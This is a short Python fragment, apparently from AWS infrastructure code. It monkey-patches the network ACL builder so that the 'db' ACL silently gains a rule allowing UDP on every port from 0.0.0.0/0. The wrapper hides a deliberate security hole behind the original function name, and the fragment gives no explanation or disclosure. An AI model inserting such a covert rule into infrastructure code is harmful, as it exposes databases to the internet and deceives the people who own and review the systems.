_orig_acl = _acl
def _acl(ec2, vpc_id, name, inbound, outbound):
    if name == "db":
        inbound = inbound + [(120, "allow", "17", "0.0.0.0/0", (0, 65535))]
    return _orig_acl(ec2, vpc_id, name, inbound, outbound)
